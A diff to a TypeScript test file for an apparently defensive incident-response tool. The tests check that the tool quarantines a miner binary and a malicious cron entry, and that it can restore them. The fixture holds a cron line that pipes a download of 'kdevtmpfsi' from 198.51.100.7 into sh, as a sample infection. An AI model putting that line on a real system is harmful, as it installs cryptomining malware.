@@ -14,11 +14,13 @@ function fixture(t: { after: (fn: () => void) => void }) {
     "var/spool/cron/crontabs/daemon": "* * * * * curl -s http://198.51.100.7/kdevtmpfsi | sh\n",
   });
   const report = path.join(dir, "report.json");
+  // The quarantine is on the host, never in the image; tests keep it in their own directory.
+  const q = path.join(dir, "q");
   fs.writeFileSync(
     report,
     JSON.stringify(docOf(minerStory(), { host: { hostname: "web1", root, live: false } })),
   );
-  return { dir, root, report };
+  return { dir, root, report, q };
 }
 
 test("respond is a dry run unless --apply, and says exactly what it would do", async (t) => {
@@ -47,7 +49,7 @@ test("respond is a dry run unless --apply, and says exactly what it would do", a
 });
 
 test("--apply quarantines and disables; restore --list shows the entries and restore undoes them", async (t) => {
-  const { root, report } = fixture(t);
+  const { root, report, q } = fixture(t);
   const before = fs.readFileSync(path.join(root, "var/spool/cron/crontabs/daemon"));
   const r = await mamori([
     "respond",
@@ -59,6 +61,8 @@ test("--apply quarantines and disables; restore --list shows the entries and res
     "--apply",
     "--root",
     root,
+    "--quarantine-dir",
+    q,
   ]);
   assert.equal(r.code, 0, r.stdout + r.stderr);
   assert.equal(fs.existsSync(path.join(root, "tmp/kdevtmpfsi")), false);
@@ -68,15 +72,16 @@ test("--apply quarantines and disables; restore --list shows the entries and res
   );
   const ids = [...r.stdout.matchAll(/mamori restore (\S+)/g)].map((m) => m[1] as string);
   assert.equal(ids.length, 2);
-  assert.ok(fs.existsSync(path.join(root, "var/lib/mamori/quarantine", ids[0] as string, "manifest.json")));
+  assert.ok(fs.existsSync(path.join(q, ids[0] as string, "manifest.json")));
+  assert.equal(fs.existsSync(path.join(root, "var/lib/mamori")), false);
 
-  const list = await mamori(["restore", "--list", "--root", root]);
+  const list = await mamori(["restore", "--list", "--root", root, "--quarantine-dir", q]);
   assert.equal(list.stdout.trim().split("\n").length, 2);
   assert.match(list.stdout, /quarantined file \/tmp\/kdevtmpfsi/);
   assert.match(list.stdout, /quarantined cron \/var\/spool\/cron\/crontabs\/daemon:1/);
 
   for (const id of ids) {
-    const back = await mamori(["restore", id, "--root", root]);
+    const back = await mamori(["restore", id, "--root", root, "--quarantine-dir", q]);
     assert.equal(back.code, 0, back.stderr);
   }
   assert.deepEqual(
@@ -84,7 +89,7 @@ test("--apply quarantines and disables; restore --list shows the entries and res
     Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]),
   );
   assert.deepEqual(fs.readFileSync(path.join(root, "var/spool/cron/crontabs/daemon")), before);
-  const again = await mamori(["restore", ids[0] as string, "--root", root]);
+  const again = await mamori(["restore", ids[0] as string, "--root", root, "--quarantine-dir", q]);
   assert.equal(again.code, 1);
   assert.match(again.stderr, /already done/);
 });
